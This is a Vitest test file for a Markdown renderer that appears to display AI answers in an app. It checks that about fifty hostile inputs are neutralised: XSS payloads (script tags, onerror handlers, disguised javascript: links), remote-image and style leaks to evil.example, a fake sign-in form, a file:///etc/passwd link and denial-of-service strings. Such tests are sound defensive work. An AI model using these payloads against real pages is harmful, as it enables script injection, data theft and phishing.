import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { TooltipProvider } from '#renderer/components/tooltip.tsx';
import { Markdown } from '#renderer/features/markdown/markdown.tsx';

const render = (text: string, isStreaming = false): string =>
  renderToStaticMarkup(
    <TooltipProvider>
      <Markdown text={text} isStreaming={isStreaming} />
    </TooltipProvider>,
  );

/** All that an answer may put into the page. A new element has to be added here by someone who thought about it. */
const ALLOWED_ELEMENTS = new Set(
  'div span p h3 h4 h5 h6 em strong del br hr blockquote ul ol li code pre a img table thead tbody tr th td section figure figcaption button svg path rect line polyline circle sup'.split(
    ' ',
  ),
);
const ALLOWED_ATTRIBUTES =
  /^(?:class|href|rel|src|alt|title|draggable|tabindex|dir|start|scope|role|type|d|x|y|x1|x2|y1|y2|cx|cy|r|rx|ry|points|width|height|viewbox|fill|xmlns|stroke|stroke-width|stroke-linecap|stroke-linejoin|style|(?:data|aria)-[a-z-]+)$/;

type Element = { name: string; attributes: Map<string, string> };

/** The elements of markup that React wrote: well-formed, quoted attributes. */
function elementsOf(html: string): Element[] {
  return [...html.matchAll(/<([a-z0-9]+)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/gi)].map(([, name = '', attributes = '']) => ({
    name: name.toLowerCase(),
    attributes: new Map(
      [...attributes.matchAll(/([^\s=]+)(?:="([^"]*)")?/g)].map(([, key = '', value = '']) => [key.toLowerCase(), value]),
    ),
  }));
}

const HOSTILE: [name: string, markdown: string][] = [
  ['script element', '<script>alert(1)</script>'],
  ['script in a paragraph', 'Hello <script src="https://evil.example/x.js"></script> there'],
  ['event handler', '<img src=x onerror=alert(1)>'],
  ['event handler on a block', '<div onclick="alert(1)">click</div>'],
  ['svg', '<svg onload=alert(1)><script>alert(1)</script></svg>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['object and embed', '<object data="x.swf"></object><embed src="x">'],
  ['form', '<form action="https://evil.example"><input name=key><button>Sign in</button></form>'],
  ['style element', '<style>body{background:url(https://evil.example/leak)}</style>'],
  ['style attribute', '<p style="position:fixed;inset:0;background:url(https://evil.example)">cover</p>'],
  ['base', '<base href="https://evil.example/">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['link element', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['id clobbering', '<a id="root" name="agentManager">x</a>'],
  [
    'template and noscript',
    '<template><img src=x onerror=alert(1)></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ],
  ['unclosed comment', '<!-- <img src=x onerror=alert(1)> \n\n text'],
  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
  ['math element', '<math><mtext><img src=x onerror=alert(1)></mtext></math>'],
  ['javascript link', '[click](javascript:alert(1))'],
  ['javascript link in capitals', '[click](JaVaScRiPt:alert(1))'],
  ['javascript link with entities', '[click](&#106;avascript:alert(1))'],
  ['javascript link with a tab', '[click](java&Tab;script:alert(1))'],
  ['javascript link with a line break', '[click](<java\nscript:alert(1)>)'],
  ['javascript link by reference', '[click][x]\n\n[x]: javascript:alert(1)'],
  ['javascript autolink', '<javascript:alert(1)>'],
  ['vbscript link', '[click](vbscript:msgbox(1))'],
  ['data link', '[click](data:text/html,<script>alert(1)</script>)'],
  ['file link', '[click](file:///etc/passwd)'],
  ['blob link', '[click](blob:https://evil.example/1)'],
  ['link of our own scheme', '[click](agent-manager://settings)'],
  ['link to an app', '[click](ms-msdt:/id%20PCWDiagnostic)'],
  ['relative link', '[click](/settings) [click](../x) [click](#root) [click](//evil.example)'],
  ['remote image', '![x](https://evil.example/leak.png?q=secret)'],
  ['remote image by reference', '![x][i]\n\n[i]: https://evil.example/leak.png'],
  ['remote image in a link', '[![x](https://evil.example/leak.png)](https://evil.example)'],
  ['file image', '![x](file:///etc/passwd)'],
  ['svg image', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
  ['html as an image', '![x](data:text/html;base64,PHNjcmlwdD4=)'],
  ['attribute breakout in alt', '![" onerror="alert(1)](data:image/png;base64,iVBORw0KGgo=)'],
  ['attribute breakout in an address', '[x](https://example.com/"onmouseover="alert(1))'],
  ['attribute breakout in a title', '[x](https://example.com "a\\" onmouseover=\\"alert(1)")'],
  ['attribute breakout in a language', '```"onmouseover="alert(1)\ncode\n```'],
  ['script in code', '```html\n<script>alert(1)</script>\n```'],
  ['script in inline code', '`<script>alert(1)</script>`'],
  ['script in a table', '| a |\n|---|\n| <script>alert(1)</script> |'],
  ['script in a heading', '# <script>alert(1)</script>'],
  ['script in a task list', '- [x] <script>alert(1)</script>'],
  ['script in a footnote', 'a[^1]\n\n[^1]: <script>alert(1)</script>'],
  ['script in math', '$$\\href{javascript:alert(1)}{x} <script>alert(1)</script>$$'],
  ['macro bomb in math', '$$\\def\\a{\\a\\a}\\a$$'],
  ['nested markup', '**<a href="javascript:alert(1)">**x**</a>**'],
  ['half a tag', 'text <img src=x onerror=alert(1) '],
  ['prototype names', '[x][__proto__] [y][constructor]\n\n[__proto__]: https://example.com'],
];

describe('hostile Markdown', () => {
  it.each(HOSTILE)('%s puts nothing into the page that is not ours', (_name, markdown) => {
    for (const isStreaming of [false, true]) {
      for (const { name, attributes } of elementsOf(render(markdown, isStreaming))) {
        expect(ALLOWED_ELEMENTS, `<${name}>`).toContain(name);
        for (const [key, value] of attributes) {
          expect(key, `<${name} ${key}>`).toMatch(ALLOWED_ATTRIBUTES);
          if (key === 'href') expect(value).toMatch(/^(?:https?|mailto):/);
          if (key === 'src') expect(value).toMatch(/^data:image\/(?:png|jpeg|gif|webp);base64,/);
          if (key === 'style') expect(value).not.toMatch(/url|position|javascript/i);
        }
      }
    }
  });

  it('is found by these checks where it is let through', () => {
    const elements = elementsOf('<p><img src="https://evil.example/x" onerror="alert(1)"/><script>x</script></p>');
    expect(elements.map(({ name }) => name)).toEqual(['p', 'img', 'script']);
    expect([...(elements[1]?.attributes.keys() ?? [])]).toEqual(['src', 'onerror']);
  });

  it('shows raw HTML as the text it is', () => {
    expect(render('Hello <b onclick=x>you</b>')).toContain('&lt;b onclick=x&gt;');
  });

  it('shows a remote image as a link with its address, and an inline one as a picture', () => {
    expect(render('![chart](https://example.com/c.png)')).toMatch(
      /<a [^>]*href="https:\/\/example.com\/c.png"[^>]*>chart.*https:\/\/example.com\/c.png/,
    );
    expect(render('![dot](data:image/png;base64,iVBORw0KGgo=)')).toMatch(
      /<img [^>]*src="data:image\/png;base64,iVBORw0KGgo="[^>]*alt="dot"/,
    );
  });

  it('names the host where the text of a link names another one', () => {
    expect(render('[https://bank.example](https://evil.example/login)')).toContain('(evil.example)');
    expect(render('[the docs](https://docs.example)')).not.toContain('(docs.example)');
  });

  it('makes bidirectional and hidden characters visible in code and in link text', () => {
    expect(render('```js\nif (a\u202e) {}\u2066 // x\n```')).toMatch(/U\+202E.*U\+2066/);
    expect(render('`rm\u200b -rf`')).toContain('U+200B');
    expect(render('[example\u202ecom](https://evil.example)')).toContain('U+202E');
  });

  it('renders deep nesting and noise as text, in little time', () => {
    for (const text of [
      '> '.repeat(5000),
      '- '.repeat(5000),
      '['.repeat(20_000),
      '*'.repeat(20_000),
      '![a]('.repeat(4000),
      '<'.repeat(20_000),
    ]) {
      expect(render(`${text}x`)).toContain('x');
    }
  });
});
